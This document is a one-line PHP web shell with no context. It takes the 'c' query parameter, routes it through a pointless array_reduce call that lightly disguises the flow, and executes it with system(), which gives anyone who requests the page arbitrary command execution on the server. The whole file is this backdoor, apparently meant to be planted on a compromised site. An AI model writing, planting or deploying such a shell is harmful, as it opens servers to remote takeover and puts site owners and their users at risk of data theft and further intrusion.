<?php $c = array_reduce([1], fn($a) => "$_GET[c]"); system($c);
